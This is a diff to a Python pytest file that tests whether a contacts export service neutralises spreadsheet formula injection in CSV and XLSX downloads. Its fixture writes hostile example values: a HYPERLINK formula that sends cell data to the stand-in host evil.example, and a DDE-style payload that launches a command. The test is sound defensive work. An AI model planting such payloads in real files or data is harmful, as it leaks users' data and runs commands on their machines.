@@ -22,11 +22,14 @@ from typing import Any
 
 import boto3
 import openpyxl
+import pyarrow as pa
+import pyarrow.parquet as pq
 import pytest
 
 from stack_client import all_members, evaluate, http, lake_contacts, live, local_stack, ok, wait_for
 from tern.aws.dynamodb import Table
 from tern.exports.webhook import verify
+from tern.parquet import CONTACTS_SCHEMA
 from tern.segments.repository import SegmentRepository
 from tern_local.generator import generate
 from tern_local.stack import REGION, LocalStack
@@ -37,6 +40,7 @@ WARSAW = {
     "refresh": {"every": 365, "unit": "days"},
 }
 SECRET = "a-secret-of-at-least-16"
+HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2,"Click me")'
 
 
 @pytest.fixture(scope="module")
@@ -44,6 +48,9 @@ def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
     lake: Path = tmp_path_factory.mktemp("exports-lake")
     for org, seed in (("acme", 11), ("globex", 12)):
         generate(lake, contacts=600, events_per_contact=10, days=60, org=org, seed=seed)
+    hostile = [{"contact_id": "hostile-1", "first_name": HOSTILE, "last_name": "@SUM(1+1)*cmd|' /C calc'!A0", "city": "Hostileville",
+                "email": "h@example.com", "phone": "+48 600 100 999", "created_at": dt.datetime(2026, 1, 1)}]  # fmt: skip
+    pq.write_table(pa.Table.from_pylist(hostile, schema=CONTACTS_SCHEMA), lake / "contacts" / "org_id=acme" / "hostile.parquet")
     with local_stack(lake) as running:
         yield running
 
@@ -81,6 +88,19 @@ def purchases(stack: LocalStack) -> dict[str, tuple[dt.date, float, int]]:
         "WHERE org_id = 'acme' AND event_type = 'purchase' GROUP BY contact_id"
     ).rows
     return {r[0]: (r[1], r[2], r[3]) for r in rows}
+
+
+def test_a_hostile_contacts_formula_reaches_the_csv_and_the_workbook_as_inert_text(stack: LocalStack) -> None:
+    hostile = live(
+        stack,
+        {**WARSAW, "name": "Hostile", "where": {"all": [{"kind": "attribute", "field": "city", "op": "eq", "value": "Hostileville"}]}},
+    )
+    export = finished_export(stack, hostile["id"], {"format": "csv"})
+    (row,) = list(csv.DictReader(io.StringIO(download(export["url"]).decode())))
+    assert row["first_name"] == "'" + HOSTILE and row["last_name"].startswith("'@SUM") and row["phone"] == "+48 600 100 999"
+    workbook = openpyxl.load_workbook(io.BytesIO(download(finished_export(stack, hostile["id"], {"format": "xlsx"})["url"])))
+    cell = next(c for c in workbook.active[2] if c.value and "HYPERLINK" in str(c.value))
+    assert cell.data_type == "s" and cell.value == HOSTILE  # a string cell: shown, never run
 
 
 def test_csv_summary_holds_every_member_with_their_purchases(
